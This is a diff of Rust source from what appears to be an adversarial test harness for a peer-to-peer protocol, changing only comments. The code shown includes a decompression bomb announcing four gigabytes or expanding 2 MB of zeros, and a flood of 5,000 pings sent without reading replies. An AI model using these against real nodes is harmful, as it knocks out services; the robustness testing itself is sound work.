@@ -1,4 +1,4 @@
-//! Attacks on the link itself, by peers that are introduced.
+//! Attacks on the link by peers that completed Hello.
 
 use std::io;
 use std::time::Duration;
@@ -16,7 +16,7 @@ use crate::envelope_attacks::unix_now;
 use crate::handshake_attacks::RawConnection;
 
 impl Attacker {
-    /// A peer that has said all that a peer must.
+    /// A peer that completed Hello and status.
     pub(crate) async fn peer(&mut self) -> io::Result<PeerConnection> {
         let capabilities = [Capability::ONION_1, Capability::SHH_6];
         let mut connection =
@@ -62,9 +62,9 @@ impl Attacker {
     pub(crate) async fn snappy_bomb(&mut self) -> io::Result<()> {
         let mut raw = RawConnection::with_hello(&self.target, &mut self.rng).await?;
         let bomb = match self.below(3) {
-            // It says four gigabytes.
+            // The payload announces four gigabytes.
             0 => [&[0xff, 0xff, 0xff, 0xff, 0x0f][..], &self.junk(1_000)].concat(),
-            // It is as long as may be, and almost nothing on the wire.
+            // The payload has the maximum length, and a few bytes on the wire.
             1 => {
                 let zeros = vec![0; 2 << 20];
                 snap::raw::Encoder::new().compress_vec(&zeros).unwrap()
@@ -81,7 +81,7 @@ impl Attacker {
 
     pub(crate) async fn pings(&mut self) -> io::Result<()> {
         let mut raw = RawConnection::with_hello(&self.target, &mut self.rng).await?;
-        // An empty list as one Snappy literal. Nobody reads the answers.
+        // An empty list as one Snappy literal. The answers are never read.
         let mut wire = Vec::new();
         for _ in 0..5_000 {
             raw.sealer.seal(PING, &[1, 0, 0xc0], &mut wire).unwrap();
